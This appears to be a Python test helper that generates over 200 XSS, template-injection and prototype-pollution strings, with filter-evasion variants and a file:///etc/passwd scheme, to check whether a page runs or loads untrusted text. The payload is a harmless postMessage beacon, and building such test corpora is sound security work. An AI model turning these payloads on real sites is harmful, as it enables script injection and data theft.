"""Texts that would run or load something if a page took them for markup, a link, a template or a property.

`RUN` stands for a script that tells the page at the top, `URL` for the address of a listener.
"""

from __future__ import annotations

from html import escape

__all__ = ["hostile_texts"]

_MARKUP = (
    "<script>RUN</script>",
    "<script src='URL/script.js'></script>",
    "<script type=module>import 'URL/module.js'</script>",
    "<script>/*</script><img src=x onerror=RUN>*/",
    "<img src=x onerror=RUN>",
    "<img src='URL/image'>",
    "<img srcset='URL/set 1x'>",
    "<image href='URL/svg-image' onerror=RUN>",
    "<svg onload=RUN>",
    "<svg><script href='URL/svg.js'></script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:RUN'></svg>",
    "<svg><use href='URL/use.svg#a'></svg>",
    "<svg><foreignObject><iframe src='URL/foreign'></iframe></foreignObject></svg>",
    "<svg><a xlink:href='javascript:RUN'><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=RUN></style></mtext></math>",
    "<body onload=RUN>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src='URL/frame'></iframe>",
    "<object data='URL/object'></object>",
    "<object data='javascript:RUN'></object>",
    "<embed src='URL/embed'>",
    "<video src='URL/video' poster='URL/poster' autoplay onerror=RUN></video>",
    "<audio src='URL/audio' autoplay onerror=RUN></audio>",
    "<video><source src='URL/source' onerror=RUN></video>",
    "<input autofocus onfocus=RUN>",
    "<input type=image src='URL/button'>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<select autofocus onfocus=RUN></select>",
    "<button autofocus onfocus=RUN formaction='javascript:RUN'>x</button>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<marquee onstart=RUN>x</marquee>",
    "<p style='background: url(URL/style)'>x</p>",
    "<p style='animation: x 1s' onanimationstart=RUN>x</p>",
    "<style>@import 'URL/import.css'; * { background: url(URL/all) }</style>",
    "<style onload=RUN></style>",
    "<link rel=stylesheet href='URL/sheet.css' onload=RUN>",
    "<link rel=prefetch href='URL/prefetch'>",
    "<link rel=preload as=image href='URL/preload'>",
    "<meta http-equiv=refresh content='0; url=URL/refresh'>",
    "<meta http-equiv=refresh content='0; url=javascript:RUN'>",
    "<base href='URL/base/'>",
    "<form action='URL/form'><button autofocus onfocus=this.form.submit()>x</button></form>",
    "<table background='URL/table'><tr><td>x</table>",
    "<template><img src=x onerror=RUN></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<a href='javascript:RUN'>x</a>",
    "<a href='URL/ping' ping='URL/ping'>x</a>",
    "<area href='javascript:RUN'>",
    "<dialog open onclose=RUN>x</dialog>",
    "<x contenteditable autofocus tabindex=1 onfocus=RUN>x</x>",
    "<div popover onbeforetoggle=RUN>x</div>",
    "<picture><source srcset='URL/picture'><img></picture>",
    "<track src='URL/track' default>",
)
_SCHEMES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    "\x01javascript:RUN",
    "&#106;avascript:RUN",
    "javascript&colon;RUN",
    "data:text/html,<script>RUN</script>",
    "data:image/svg+xml,<svg onload=RUN>",
    "vbscript:RUN",
    "file:///etc/passwd",
)
_LINKS = ("[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "[![x]({})]({})")
_OTHERS = (
    "${RUN}",
    "{{constructor.constructor('RUN')()}}",
    "<${RUN}>",
    "#{RUN}",
    "<%= RUN %>",
    "__proto__",
    "constructor",
    "toString",
    '{"__proto__": {"innerHTML": "<img src=x onerror=RUN>"}}',
    '{"type": "script", "props": {"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=RUN>"}}}',
    "');RUN;//",
    '";RUN;//',
    "]]><script>RUN</script>",
    "![x](URL/markdown-image)",
    "[x]: URL/reference\n![x]",
    "```html\n<script>RUN</script>\n```",
    "`<img src=x onerror=RUN>`",
    "| a |\n|---|\n| <img src=x onerror=RUN> |",
    "> <img src=x onerror=RUN>",
    "- <script>RUN</script>",
    "# <img src=x onerror=RUN>",
    "[^1]: <img src=x onerror=RUN>",
    "\ufeff<script>RUN</script>",
    "＜script＞RUN＜/script＞",
    "<scr\x00ipt>RUN</scr\x00ipt>",
    "\u202e<script>RUN</script>",
    "\x1b]8;;javascript:RUN\x07x\x1b]8;;\x07",
)


def hostile_texts(url: str) -> list[str]:
    """Return at least 200 texts, no two of them alike, for a listener with that address."""
    links = (form.replace("{}", scheme) for form in _LINKS for scheme in _SCHEMES)
    disguised = (disguise(text) for text in _MARKUP for disguise in (str, _out_of_an_attribute))
    more = (_DISGUISES[place % len(_DISGUISES)](text) for place, text in enumerate(_MARKUP))
    run = "top.postMessage('ran','*')"
    texts = [*disguised, *more, *links, *_OTHERS]
    return [text.replace("RUN", run).replace("URL", url) for text in dict.fromkeys(texts)]


def _out_of_an_attribute(text: str) -> str:
    return f"x\"'>{text}"


_DISGUISES = (
    lambda text: text.replace("RUN", "\0").replace("URL", "\1").upper().replace("\0", "RUN").replace("\1", "URL"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    lambda text: f"--></textarea></title></style></script>{text}",
    escape,
    lambda text: text.rstrip(">"),
)
